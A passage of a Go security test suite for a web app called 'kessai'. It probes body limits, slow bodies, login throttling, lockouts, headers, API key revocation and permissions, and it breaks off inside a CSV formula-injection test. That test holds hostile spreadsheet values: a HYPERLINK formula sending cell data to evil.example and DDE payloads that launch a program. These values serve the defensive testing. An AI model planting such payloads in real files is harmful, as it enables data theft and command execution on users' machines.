package app_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/text/encoding/japanese"

	"kessai/internal/app"
	"kessai/internal/app/apptest"
	"kessai/internal/commerce"
	"kessai/internal/platform/auth"
)

// The security suite: every probe an attacker or a careless client could send, against a whole
// kessai over real HTTP. Each probe is counted, and each one the server must refuse is counted
// as a refusal; the totals are logged at the end (go test -v -run TestSecurity ./internal/app/).

type secCounts struct{ probes, refusals atomic.Int64 }

// expect sends nothing itself: it records one probe whose answer was got, fails the test
// unless got is one of want, and counts a refusal when the expected answer is a 4xx.
func (c *secCounts) expect(t *testing.T, what string, got int, body string, want ...int) {
	t.Helper()
	c.probes.Add(1)
	for _, w := range want {
		if got == w {
			if w >= 400 {
				c.refusals.Add(1)
			}
			return
		}
	}
	if len(body) > 400 {
		body = body[:400] + "…"
	}
	t.Errorf("%s: status %d, want %v: %s", what, got, want, body)
}

func TestSecurity(t *testing.T) {
	// The suite's own temp dir: net/http's multipart files and every upload of an instance
	// that names no UploadDir land here, not in the /tmp other packages' tests share, so a
	// leftover found is one of ours. (The parallel probes below run inside this test.)
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	var c secCounts
	t.Run("probes", func(t *testing.T) {
		for _, tt := range []struct {
			name string
			run  func(t *testing.T, c *secCounts)
		}{
			{"bounded bodies and temp files", secBodies},
			{"uploads stream under their own cap", secUploads},
			{"slow bodies are cut off", secSlowBody},
			{"concurrent guesses are counted", secConcurrentLogins},
			{"locks are per account and address", secLocks},
			{"password policy", secPasswordPolicy},
			{"query bounds", secQueryBounds},
			{"headers and cookies", secHeaders},
			{"API keys die with their owner", secKeyOwner},
			{"one permission per operation", secSamePermission},
			{"CSV formula injection", secFormulaInjection},
			{"sandbox approval needs a kessai login", secSandboxApproval},
			{"one unencodable record does not block an export", secUnencodable},
			{"secure cookies behind https", secSecureCookies},
			{"an aborted or refused upload leaves nothing", secAbortedUpload},
			{"an upload the role may not make is never read", secUploadNotAllowed},
			{"server timeouts", secServerTimeouts},
			{"account-wide backoff", secAccountBackoff},
			{"a flood of refused guesses writes almost nothing", secRefusalFlood},
			{"a moved endpoint gets no stored secret", secEndpointMove},
			{"a patched toolchain", secToolchain},
		} {
			t.Run(tt.name, func(t *testing.T) {
				t.Parallel()
				tt.run(t, &c)
			})
		}
	})
	// Whatever any probe sent, nothing was left behind once its server was done.
	c.probes.Add(1)
	if left := tempFiles(t, tmp); len(left) > 0 {
		t.Errorf("the suite's temp dir keeps %v", left)
	}
	t.Logf("security suite: %d probes, %d refusals", c.probes.Load(), c.refusals.Load())
}

// secStart starts one probe's kessai. The machine may be busy with other tests, so a request
// gets 5 minutes instead of the production 10 s and a login waits as long for a hashing slot:
// a 503 the suite sees is never load, only what a probe asks for. Uploads go to the suite's
// temp dir unless configure names another.
func secStart(t *testing.T, configure func(*app.Config)) *apptest.Instance {
	t.Helper()
	return apptest.Start(t, apptest.Options{
		Configure: func(cfg *app.Config) {
			cfg.RequestTimeout = 5 * time.Minute
			// The probes count answers exactly (30 logins at once: 20 checked, 10 refused);
			// admission would shed the ones queued for a hashing slot as 503 (it has its own test).
			cfg.MaxConcurrent = 1000
			if configure != nil {
				configure(cfg)
			}
		},
		Built: func(a *app.App) { a.Platform.Auth.HashWait = 5 * time.Minute },
	})
}

// tempFiles lists what a parse could have left in dir.
func tempFiles(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	for _, pat := range []string{"multipart-*", "kessai-upload-*"} {
		m, err := filepath.Glob(filepath.Join(dir, pat))
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, m...)
	}
	return out
}

// multipartBody is a form with fields (in order) and a file of size bytes.
func multipartBody(t *testing.T, fields [][2]string, file string, content io.Reader) (string, *bytes.Buffer) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for _, f := range fields {
		_ = mw.WriteField(f[0], f[1])
	}
	if file != "" {
		fw, _ := mw.CreateFormFile(file, "big.csv")
		if _, err := io.Copy(fw, content); err != nil {
			t.Fatal(err)
		}
	}
	_ = mw.Close()
	return mw.FormDataContentType(), &buf
}

func send(t *testing.T, c *apptest.Client, method, path, ctype string, body io.Reader, size int64) *apptest.Response {
	t.Helper()
	req, err := http.NewRequest(method, c.Base+path, body)
	if err != nil {
		t.Fatal(err)
	}
	req.ContentLength = size // -1: chunked, the server learns the size only by reading
	req.Header.Set("Content-Type", ctype)
	return c.Do(req)
}

// zeros is n bytes of a CSV-ish filler, never held in memory.
func zeros(n int64) io.Reader { return io.LimitReader(repeatReader('a'), n) }

type repeatReader byte

func (b repeatReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(b)
	}
	return len(p), nil
}

func secBodies(t *testing.T, c *secCounts) {
	uploads := t.TempDir()
	inst := secStart(t, func(cfg *app.Config) { cfg.UploadDir = uploads })
	// net/http's own multipart files would go to the temp dir (the suite's: TestSecurity),
	// ours to UploadDir.
	sysMultipart := func() []string { m, _ := filepath.Glob(filepath.Join(os.TempDir(), "multipart-*")); return m }
	anon := inst.Anonymous(t)
	viewer := inst.Client(t, auth.RoleViewer)

	// A 40 MB multipart file at the login form: refused before it is read (a login needs a few KB).
	ct, body := multipartBody(t, [][2]string{{"email", "a@example.com"}}, "file", zeros(40<<20))
	size := int64(body.Len())
	res := send(t, anon, "POST", "/login", ct, bytes.NewReader(body.Bytes()), size)
	c.expect(t, "40 MB multipart to /login", res.Status, res.Body, http.StatusRequestEntityTooLarge)
	if !strings.Contains(res.Body, "8KB") {
		t.Errorf("413 does not name the login form's limit: %s", res.Body)
	}
	// The same without a Content-Length: cut off at the limit while reading.
	res = send(t, anon, "POST", "/login", ct, bytes.NewReader(body.Bytes()), -1)
	c.expect(t, "40 MB chunked multipart to /login", res.Status, res.Body, http.StatusRequestEntityTooLarge)
	// A viewer session posting a 5 MB file to any route: the default 1 MB cap.
	for _, path := range []string{"/cases", "/customers/bulk", "/settings/users", "/logout"} {
		ct, body := multipartBody(t, [][2]string{{"csrf_token", viewer.CSRF}}, "file", zeros(5<<20))
		res := send(t, viewer, "POST", path, ct, body, -1)
		c.expect(t, "viewer 5 MB multipart to "+path, res.Status, res.Body, http.StatusRequestEntityTooLarge)
	}
	// A JSON body over the cap, with and without Content-Length.
	key := inst.APIKey(t, auth.RoleStaff)
	for _, n := range []int64{2 << 20, -1} {
		req, _ := http.NewRequest("POST", inst.URL+"/api/v1/customers", io.MultiReader(strings.NewReader(`{"name":"`), zeros(2<<20), strings.NewReader(`"}`)))
		if n > 0 {
			req.ContentLength = n + 11
		} else {
			req.ContentLength = -1
		}
		req.Header.Set("Authorization", "Bearer "+key)
		req.Header.Set("Content-Type", "application/json")
		res := anon.Do(req)
		c.expect(t, fmt.Sprintf("2 MB JSON to the API (length %d)", n), res.Status, res.Body, http.StatusRequestEntityTooLarge, http.StatusUnprocessableEntity)
	}
	// Nothing was left on disk by any of it.
	if left := tempFiles(t, uploads); len(left) > 0 {
		t.Errorf("upload dir keeps %v", left)
	}
	if left := sysMultipart(); len(left) > 0 {
		t.Errorf("temp dir keeps %v", left)
	}
}

func secUploads(t *testing.T, c *secCounts) {
	uploads := t.TempDir()
	inst := secStart(t, func(cfg *app.Config) {
		cfg.UploadDir = uploads
		cfg.MaxImportBytes = 1 << 20
	})
	staff := inst.Client(t, auth.RoleStaff)
	page := staff.Get("/customers/import")
	formToken := regexp.MustCompile(`name="form_token" value="([^"]+)"`).FindStringSubmatch(page.Body)
	if formToken == nil {
		t.Fatalf("import page has no form token: %d", page.Status)
	}
	csv := "氏名,フリガナ\r\n山田 太郎,ヤマダ タロウ\r\n"

	// A wrong CSRF token: refused before one byte of the file is written.
	ct, body := multipartBody(t, [][2]string{{"csrf_token", "wrong"}, {"form_token", formToken[1]}}, "file", zeros(900<<10))
	res := send(t, staff, "POST", "/customers/import", ct, body, -1)
	c.expect(t, "import with a wrong CSRF token", res.Status, res.Body, http.StatusForbidden)
	// Over the import cap (1 MB here): refused from the Content-Length, and while streaming.
	ct, body = multipartBody(t, [][2]string{{"csrf_token", staff.CSRF}, {"form_token", formToken[1]}}, "file", zeros(2<<20))
	res = send(t, staff, "POST", "/customers/import", ct, bytes.NewReader(body.Bytes()), int64(body.Len()))
	c.expect(t, "2 MB import, cap 1 MB, with length", res.Status, res.Body, http.StatusRequestEntityTooLarge)
	res = send(t, staff, "POST", "/customers/import", ct, bytes.NewReader(body.Bytes()), -1)
	c.expect(t, "2 MB import, cap 1 MB, chunked", res.Status, res.Body, http.StatusRequestEntityTooLarge)
	if !strings.Contains(res.Body, "1MB") {
		t.Errorf("the refusal does not name the cap: %s", res.Body)
	}
	key := inst.APIKey(t, auth.RoleStaff)
	req, _ := http.NewRequest("POST", inst.URL+"/api/v1/customers/import", zeros(2<<20))
	req.ContentLength = -1
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("Content-Type", "text/csv")
	res = staff.Do(req)
	c.expect(t, "2 MB API import, cap 1 MB", res.Status, res.Body, http.StatusRequestEntityTooLarge)
	// Under the cap it imports, from the page and from the API.
	ct, body = multipartBody(t, [][2]string{{"csrf_token", staff.CSRF}, {"form_token", formToken[1]}}, "file", strings.NewReader(csv))
	res = send(t, staff, "POST", "/customers/import", ct, body, -1)
	c.expect(t, "small import from the page", res.Status, res.Body, http.StatusOK)
	if !strings.Contains(res.Body, "1件を登録しました") {
		t.Errorf("page import did not import: %s", res.Body)
	}
	req, _ = http.NewRequest("POST", inst.URL+"/api/v1/customers/import", strings.NewReader(csv))
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("Content-Type", "text/csv")
	res = staff.Do(req)
	c.expect(t, "small import from the API", res.Status, res.Body, http.StatusCreated)
	if left := tempFiles(t, uploads); len(left) > 0 {
		t.Errorf("uploads left on disk: %v", left)
	}
}

// rawRequest writes head on a new connection, then the body one byte every gap, and returns
// the status line the server answered with ("" if it just closed) and how long it took.
func rawRequest(t *testing.T, addr, head string, body string, gap time.Duration) (string, time.Duration) {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	start := time.Now()
	if _, err := io.WriteString(conn, head); err != nil {
		t.Fatal(err)
	}
	done := make(chan string, 1)
	go func() {
		line, _ := bufio.NewReader(conn).ReadString('\n')
		done <- strings.TrimSpace(line)
	}()
	for i := 0; i < len(body); i++ {
		select {
		case line := <-done:
			return line, time.Since(start)
		case <-time.After(gap):
		}
		if _, err := conn.Write([]byte{body[i]}); err != nil {
			break
		}
	}
	select {
	case line := <-done:
		return line, time.Since(start)
	case <-time.After(10 * time.Second):
		t.Fatal("no answer 10 s after the whole body")
	}
	return "", 0
}

func secSlowBody(t *testing.T, c *secCounts) {
	inst := secStart(t, func(cfg *app.Config) {
		cfg.BodyTimeout = 500 * time.Millisecond
		cfg.UploadIdle = 500 * time.Millisecond
	})
	addr := strings.TrimPrefix(inst.URL, "http://")
	body := strings.Repeat("x", 60)
	staff := inst.Client(t, auth.RoleStaff)
	u, _ := url.Parse(inst.URL)
	var cookie string
	for _, ck := range staff.HTTP.Jar.Cookies(u) {
		cookie += ck.Name + "=" + ck.Value + "; "
	}
	for _, path := range []string{"/login", "/customers/import", "/api/v1/customers/import"} {
		head := "POST " + path + " HTTP/1.1\r\nHost: " + addr + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60\r\n"
		switch path {
		case "/customers/import":
			head += "Cookie: " + cookie + "\r\nX-CSRF-Token: " + staff.CSRF + "\r\n"
		case "/api/v1/customers/import":
			head = strings.Replace(head, "application/x-www-form-urlencoded", "text/csv", 1)
			head += "Authorization: Bearer " + inst.APIKey(t, auth.RoleStaff) + "\r\n"
		}
		head += "\r\n"
		line, took := rawRequest(t, addr, head, body, 500*time.Millisecond)
		c.probes.Add(1)
		// 60 bytes at one per 500 ms would take 30 s; the server gives up after 0.5 s (the
		// margin is for a busy machine: an answer ends the trickle at once).
		if took > 15*time.Second {
			t.Errorf("%s: a body of one byte per 500 ms held the connection %v (answer %q)", path, took, line)
			continue
		}
		c.refusals.Add(1)
		if line != "" && !strings.Contains(line, "408") {
			t.Errorf("%s: slow body answered %q", path, line)
		}
	}
}

// fromAddr is a client whose connections come from ip (any 127.0.0.0/8 address is local on
// Linux), so the throttle sees distinct addresses.
func fromAddr(t *testing.T, inst *apptest.Instance, ip string) *apptest.Client {
	t.Helper()
	c := inst.Anonymous(t)
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}}
	jar, _ := cookiejar.New(nil)
	c.HTTP = &http.Client{Jar: jar, Transport: &http.Transport{DialContext: d.DialContext},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	return c
}

// tryLogin posts the login form once and returns the status.
func tryLogin(t *testing.T, c *apptest.Client, email, password string) *apptest.Response {
	t.Helper()
	page := c.Get("/login")
	m := regexp.MustCompile(`name="login_token" value="([^"]+)"`).FindStringSubmatch(page.Body)
	if m == nil {
		t.Fatalf("login page: %d", page.Status)
	}
	return c.PostFormNoCSRF("/login", url.Values{"email": {email}, "password": {password}, "login_token": {m[1]}})
}

func secConcurrentLogins(t *testing.T, c *secCounts) {
	// secStart gives these logins minutes: on a busy machine 30 hashes two at a time may
	// outlast the production 10 s (503 and a retry are right then); this probe is about counting.
	inst := secStart(t, nil)
	count := func(n int, ip string, email func(i int) string) map[int]int {
		clients := make([]*apptest.Client, n)
		for i := range clients {
			clients[i] = fromAddr(t, inst, ip)
			clients[i].Get("/login") // the form's cookie first, so the posts race each other only
		}
		var mu sync.Mutex
		got := map[int]int{}
		var wg sync.WaitGroup
		for i, cl := range clients {
			wg.Add(1)
			go func() {
				defer wg.Done()
				res := tryLogin(t, cl, email(i), "wrong-password-x")
				mu.Lock()
				got[res.Status]++
				mu.Unlock()
			}()
		}
		wg.Wait()
		return got
	}
	// 30 at once from one address, all different emails: the address limit is 20.
	got := count(30, "127.0.0.21", func(i int) string { return fmt.Sprintf("nobody%d@example.com", i) })
	for s, n := range got {
		for range n {
			c.expect(t, "30 concurrent logins from one address", s, "", http.StatusUnauthorized, http.StatusTooManyRequests)
		}
	}
	if got[http.StatusUnauthorized] != 20 || got[http.StatusTooManyRequests] != 10 {
		t.Errorf("30 concurrent failed logins from one address: %v, want 20 checked (401) and 10 refused (429)", got)
	}
	// 12 at once for one email from one address: the limit is 5.
	got = count(12, "127.0.0.22", func(int) string { return "admin@example.com" })
	for s, n := range got {
		for range n {
			c.expect(t, "12 concurrent logins for one email", s, "", http.StatusUnauthorized, http.StatusTooManyRequests)
		}
	}
	if got[http.StatusUnauthorized] != 5 || got[http.StatusTooManyRequests] != 7 {
		t.Errorf("12 concurrent wrong passwords for one email: %v, want 5 checked and 7 refused", got)
	}
	// However many arrive, at most HashConcurrency argon2id hashes (64 MiB each) run at once.
	p := inst.App.Platform.Auth.PeakHashing()
	if p < 1 || p > auth.HashConcurrency() {
		t.Errorf("%d password hashes ran at once, want 1..%d", p, auth.HashConcurrency())
	}
	t.Logf("30, then 12 concurrent logins: at most %d argon2id hashes at once (limit %d, %d MiB)", p, auth.HashConcurrency(), 64*auth.HashConcurrency())
}

func secLocks(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	const email, password = "admin@example.com", "admin-password-1"
	stranger := fromAddr(t, inst, "127.0.0.31")
	for i := 0; i < 5; i++ {
		res := tryLogin(t, stranger, email, "guess-guess-"+fmt.Sprint(i))
		c.expect(t, "a stranger's guess", res.Status, res.Body, http.StatusUnauthorized)
	}
	// The stranger is locked out, even with the right password...
	res := tryLogin(t, stranger, email, password)
	c.expect(t, "the right password from the guessing address", res.Status, res.Body, http.StatusTooManyRequests)
	// ...the owner is not.
	owner := fromAddr(t, inst, "127.0.0.32")
	res = tryLogin(t, owner, email, password)
	c.expect(t, "the owner from another address", res.Status, res.Body, http.StatusSeeOther)

	// An administrator sees the lock and lifts it.
	adminC := inst.Client(t, auth.RoleAdmin)
	victim := inst.Client(t, auth.RoleStaff)
	for i := 0; i < 5; i++ {
		tryLogin(t, stranger, victim.User.Email, "guess-guess-"+fmt.Sprint(i))
	}
	res = tryLogin(t, stranger, victim.User.Email, victim.Password)
	c.expect(t, "victim locked from the guessing address", res.Status, res.Body, http.StatusTooManyRequests)
	page := adminC.Get("/settings/users")
	if !strings.Contains(page.Body, "ロック中") || !strings.Contains(page.Body, "/settings/users/"+victim.User.ID+"/unlock") {
		t.Errorf("the users page shows no lock for %s", victim.User.Email)
	}
	res = victim.PostForm("/settings/users/"+victim.User.ID+"/unlock", nil)
	c.expect(t, "staff lifting a lock", res.Status, res.Body, http.StatusForbidden)
	res = adminC.PostForm("/settings/users/"+victim.User.ID+"/unlock", nil)
	c.expect(t, "admin lifts the lock", res.Status, res.Body, http.StatusSeeOther)
	res = tryLogin(t, stranger, victim.User.Email, victim.Password)
	c.expect(t, "after the lift", res.Status, res.Body, http.StatusSeeOther)
	stranger = fromAddr(t, inst, "127.0.0.31") // signed out again
	// A password reset lifts it too.
	for i := 0; i < 5; i++ {
		tryLogin(t, stranger, victim.User.Email, "guess-again-"+fmt.Sprint(i))
	}
	res = adminC.PostForm("/settings/users/"+victim.User.ID+"/password", url.Values{"password": {"brand-new-passphrase-7"}})
	c.expect(t, "admin resets the password", res.Status, res.Body, http.StatusSeeOther, http.StatusOK)
	res = tryLogin(t, stranger, victim.User.Email, "brand-new-passphrase-7")
	c.expect(t, "new password after a reset", res.Status, res.Body, http.StatusSeeOther)
}

func secPasswordPolicy(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	adminC := inst.Client(t, auth.RoleAdmin)
	for _, pw := range []string{"aaaaaaaaaa", "aaaaaaaaaaaa", "          ", "            ", "hanako@example.com", "password1234", "Qwerty123456", "short-1"} {
		res := adminC.PostForm("/settings/users", url.Values{"email": {"hanako@example.com"}, "role": {"staff"}, "password": {pw}})
		c.expect(t, fmt.Sprintf("new user with password %q", pw), res.Status, res.Body, http.StatusUnprocessableEntity)
	}
	victim := inst.Client(t, auth.RoleStaff)
	res := adminC.PostForm("/settings/users/"+victim.User.ID+"/password", url.Values{"password": {victim.User.Email}})
	c.expect(t, "reset to the email", res.Status, res.Body, http.StatusUnprocessableEntity)
	res = adminC.PostForm("/settings/users", url.Values{"email": {"hanako@example.com"}, "role": {"staff"}, "password": {"walk-the-dog-at-dawn"}})
	c.expect(t, "a good password", res.Status, res.Body, http.StatusSeeOther, http.StatusOK)
}

func secQueryBounds(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	key := inst.APIKey(t, auth.RoleViewer)
	viewer := inst.Client(t, auth.RoleViewer)
	many := url.Values{}
	for i := 0; i <= 10_000; i++ {
		many.Add("id", fmt.Sprintf("cus_%d", i))
	}
	long := strings.Repeat("a", 100_000)
	probes := []struct {
		what, path string
		want       int
		mention    string
	}{
		{"10,001 ids on the API", "/api/v1/customers?" + many.Encode(), http.StatusBadRequest, "10,000"},
		{"10,001 ids on the page", "/customers?" + many.Encode(), http.StatusBadRequest, "10,000"},
		{"bad escape", "/api/v1/customers?q=%zz", http.StatusBadRequest, ""},
		{"page overflowing the offset (shops)", "/api/v1/shops?page=9223372036854775807", http.StatusUnprocessableEntity, "100,000"},
		{"page overflowing the offset (customers)", "/api/v1/customers?page=9223372036854775807", http.StatusUnprocessableEntity, "100,000"},
		{"page 0", "/customers?page=0", http.StatusUnprocessableEntity, "100,000"},
		{"page -1", "/api/v1/orders?page=-1", http.StatusUnprocessableEntity, "100,000"},
		{"q of 100,000 characters (API)", "/api/v1/customers?q=" + url.QueryEscape(long), http.StatusUnprocessableEntity, "500文字以下"},
		{"q of 100,000 characters (page)", "/customers?q=" + url.QueryEscape(long), http.StatusUnprocessableEntity, "500文字以下"},
		{"q of 100,000 characters (CSV)", "/customers.csv?q=" + url.QueryEscape(long), http.StatusUnprocessableEntity, "500文字以下"},
		{"q of 100,000 characters (API CSV)", "/api/v1/customers/export.csv?q=" + url.QueryEscape(long), http.StatusUnprocessableEntity, "500文字以下"},
	}
	for _, p := range probes {
		var res *apptest.Response
		if strings.HasPrefix(p.path, "/api/") {
			res = inst.API(t, key, "GET", p.path, nil)
		} else {
			res = viewer.Get(p.path)
		}
		c.expect(t, p.what, res.Status, res.Body, p.want)
		if !strings.Contains(res.Body, p.mention) {
			t.Errorf("%s: the answer does not name the limit %q: %.300s", p.what, p.mention, res.Body)
		}
	}
	// In range still works.
	res := inst.API(t, key, "GET", "/api/v1/shops?page=100000", nil)
	c.expect(t, "page 100,000", res.Status, res.Body, http.StatusOK)
}

func secHeaders(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	viewer := inst.Client(t, auth.RoleViewer)
	key := inst.APIKey(t, auth.RoleViewer)
	for _, path := range []string{"/", "/customers", "/customers.csv", "/cases", "/jobs", "/login"} {
		res := viewer.Get(path)
		c.probes.Add(1)
		csp := res.Header.Get("Content-Security-Policy")
		script := ""
		for _, d := range strings.Split(csp, ";") {
			if d = strings.TrimSpace(d); strings.HasPrefix(d, "script-src") {
				script = d
			}
		}
		if script != "script-src 'self'" || !strings.Contains(csp, "frame-ancestors 'none'") {
			t.Errorf("%s: Content-Security-Policy %q, want script-src 'self' only and frame-ancestors 'none'", path, csp)
		}
		if strings.Contains(res.Body, "<script>") || strings.Contains(res.Body, "javascript:") || regexp.MustCompile(` on[a-z]+="`).MatchString(res.Body) {
			t.Errorf("%s: inline script in the page", path)
		}
		if cc := res.Header.Get("Cache-Control"); cc != "no-store" {
			t.Errorf("%s: Cache-Control %q, want no-store", path, cc)
		}
	}
	for _, path := range []string{"/api/v1/customers", "/api/v1/customers/export.csv", "/api/v1/orders", "/api/v1/transfers"} {
		res := inst.API(t, key, "GET", path, nil)
		c.probes.Add(1)
		if cc := res.Header.Get("Cache-Control"); res.Status != http.StatusOK || cc != "no-store" {
			t.Errorf("%s: %d, Cache-Control %q, want no-store", path, res.Status, cc)
		}
	}
	if res := viewer.Get("/static/app.js"); res.Header.Get("Cache-Control") == "no-store" {
		t.Errorf("static files should stay cacheable")
	}
	// The database file is readable by kessai's user only.
	if path := filepath.Join(inst.App.Config.DataDir, "kessai.db"); inst.App.DB.Dialect() == "sqlite" {
		for _, p := range []string{path, path + "-wal", path + "-shm"} {
			c.probes.Add(1)
			fi, err := os.Stat(p)
			if err != nil {
				t.Errorf("%s: %v", p, err)
			} else if fi.Mode().Perm() != 0o600 {
				t.Errorf("%s: mode %v, want 0600", p, fi.Mode().Perm())
			}
		}
	}
	// Nothing else kessai keeps in its data dir (the master key, simulator state) is open to
	// other users either. (The dir itself is the operator's; this one is the test's.)
	dataDir := inst.App.Config.DataDir
	err := filepath.WalkDir(dataDir, func(p string, d os.DirEntry, err error) error {
		if err != nil || p == dataDir {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		c.probes.Add(1)
		if fi.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s: mode %v, want no access for group and others", p, fi.Mode().Perm())
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
}

func secSecureCookies(t *testing.T, c *secCounts) {
	inst := secStart(t, func(cfg *app.Config) { cfg.BaseURL = "https://kessai.example.com" })
	plain := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	cookies := map[string]string{}
	collect := func(res *http.Response) {
		for _, sc := range res.Header.Values("Set-Cookie") {
			name, _, _ := strings.Cut(sc, "=")
			cookies[name] = sc
		}
		res.Body.Close()
	}
	do := func(method, path, session, csrf string) {
		req, _ := http.NewRequest(method, inst.URL+path, nil)
		if session != "" {
			req.Header.Set("Cookie", "kessai_session="+session)
			req.Header.Set("X-CSRF-Token", csrf)
		}
		res, err := plain.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		collect(res)
	}
	do("GET", "/login", "", "")
	do("POST", "/logout", "", "")
	l, err := inst.App.Platform.Auth.Login(context.Background(), auth.LoginRequest{Email: "admin@example.com", Password: "admin-password-1", IP: "127.0.0.1"})
	if err != nil {
		t.Fatal(err)
	}
	do("POST", "/settings/integrations/aozora/authorize", l.Token, l.Session.CSRFToken)
	for _, name := range []string{"kessai_login", "kessai_flash", "kessai_session", "kessai_aozora_state"} {
		c.probes.Add(1)
		sc, ok := cookies[name]
		if !ok {
			t.Errorf("no %s cookie was set (got %v)", name, cookies)
			continue
		}
		if !regexp.MustCompile(`(?i);\s*Secure(;|$)`).MatchString(sc) {
			t.Errorf("%s without Secure behind an https base URL: %s", name, sc)
		}
	}
}

var keyRE = regexp.MustCompile(`kessai_[A-Za-z0-9_-]{20,}`)

func secKeyOwner(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	owner := inst.Client(t, auth.RoleAdmin)
	root := inst.Anonymous(t)
	root.Login("admin@example.com", "admin-password-1")
	page := owner.PostForm("/settings/apikeys", url.Values{"name": {"連携"}, "role": {"admin"}})
	key := keyRE.FindString(page.Body)
	if key == "" {
		t.Fatalf("no key on the page: %d", page.Status)
	}
	api := func(what, method, path string, body any, want int) {
		t.Helper()
		res := inst.API(t, key, method, path, body)
		c.expect(t, what, res.Status, res.Body, want)
	}
	api("fresh admin key: shops", "GET", "/api/v1/shops", nil, http.StatusOK)
	api("fresh admin key: simulator mails", "GET", "/sandbox/aozora/_sim/mails", nil, http.StatusOK)
	// The page shows when the key was last used.
	if !regexp.MustCompile(`key-last-used">\d{4}/\d{2}/\d{2}`).MatchString(owner.Get("/settings/apikeys").Body) {
		t.Errorf("the API キー page does not show the last use")
	}
	// Disabling the owner stops the key.
	res := root.PostForm("/settings/users/"+owner.User.ID+"/disable", nil)
	c.expect(t, "disable the key's owner", res.Status, res.Body, http.StatusSeeOther)
	api("owner disabled: shops", "GET", "/api/v1/shops", nil, http.StatusUnauthorized)
	api("owner disabled: simulator mails", "GET", "/sandbox/aozora/_sim/mails", nil, http.StatusUnauthorized)
	api("owner disabled: create a shop", "POST", "/api/v1/shops", map[string]any{"code": "x1", "name": "x"}, http.StatusUnauthorized)
	// Downgrading the owner limits it.
	root.PostForm("/settings/users/"+owner.User.ID+"/enable", nil)
	res = root.PostForm("/settings/users/"+owner.User.ID+"/role", url.Values{"role": {"staff"}})
	c.expect(t, "downgrade the key's owner", res.Status, res.Body, http.StatusSeeOther)
	api("owner is staff: read shops", "GET", "/api/v1/shops", nil, http.StatusOK)
	api("owner is staff: create a shop", "POST", "/api/v1/shops", map[string]any{"code": "x2", "name": "x"}, http.StatusForbidden)
	api("owner is staff: simulator faults", "GET", "/sandbox/aozora/_sim/mails", nil, http.StatusForbidden)
	// An expiry ends it.
	if _, err := inst.App.DB.ExecContext(context.Background(), `UPDATE api_keys SET expires_at = ? WHERE prefix = ?`,
		time.Now().Add(-time.Minute).UTC(), key[:len(auth.APIKeyPrefix)+6]); err != nil {
		t.Fatal(err)
	}
	res = inst.API(t, key, "GET", "/api/v1/shops", nil)
	c.expect(t, "expired key", res.Status, res.Body, http.StatusUnauthorized)
	if !strings.Contains(res.Body, "有効期限") {
		t.Errorf("expired key: %s", res.Body)
	}
	res = root.PostForm("/settings/apikeys", url.Values{"name": {"過去"}, "role": {"viewer"}, "expires": {"2020-01-01"}})
	c.expect(t, "a key expiring in the past", res.Status, res.Body, http.StatusUnprocessableEntity)
}

func secSamePermission(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	staff := inst.APIKey(t, auth.RoleStaff)
	admin := inst.APIKey(t, auth.RoleAdmin)
	res := inst.API(t, staff, "POST", "/api/v1/shops", map[string]any{"code": "s1", "name": "スタッフの店"})
	c.expect(t, "staff key creates a shop", res.Status, res.Body, http.StatusForbidden)
	res = inst.API(t, admin, "POST", "/api/v1/shops", map[string]any{"code": "a1", "name": "管理者の店"})
	c.expect(t, "admin key creates a shop", res.Status, res.Body, http.StatusCreated)
	id := regexp.MustCompile(`"id":"([^"]+)"`).FindStringSubmatch(res.Body)
	if id == nil {
		t.Fatalf("no shop id: %s", res.Body)
	}
	res = inst.API(t, staff, "PATCH", "/api/v1/shops/"+id[1], map[string]any{"name": "改名"})
	c.expect(t, "staff key renames a shop", res.Status, res.Body, http.StatusForbidden)
	staffC := inst.Client(t, auth.RoleStaff)
	res = staffC.PostForm("/settings/shops", url.Values{"code": {"s2"}, "name": {"x"}})
	c.expect(t, "staff creates a shop on the page", res.Status, res.Body, http.StatusForbidden)
}

// csvCells splits a UTF-8 CSV (BOM, CRLF, quoted cells) into its cells.
func csvCells(t *testing.T, body string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v: %.200s", err, body)
	}
	return rows
}

func secFormulaInjection(t *testing.T, c *secCounts) {
	inst := secStart(t, nil)
	staff := inst.APIKey(t, auth.RoleStaff)
	admin := inst.APIKey(t, auth.RoleAdmin)
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
	res := inst.API(t, admin, "POST", "/api/v1/shops", map[string]any{"code": "f1", "name": "店"})
	shop := regexp.MustCompile(`"id":"([^"]+)"`).FindStringSubmatch(res.Body)
	if shop == nil {
		t.Fatalf("shop: %s", res.Body)
	}
	for _, name := range evil {
		res := inst.API(t, staff, "POST", "/api/v1/customers", map[string]any{"name": name, "note": name})
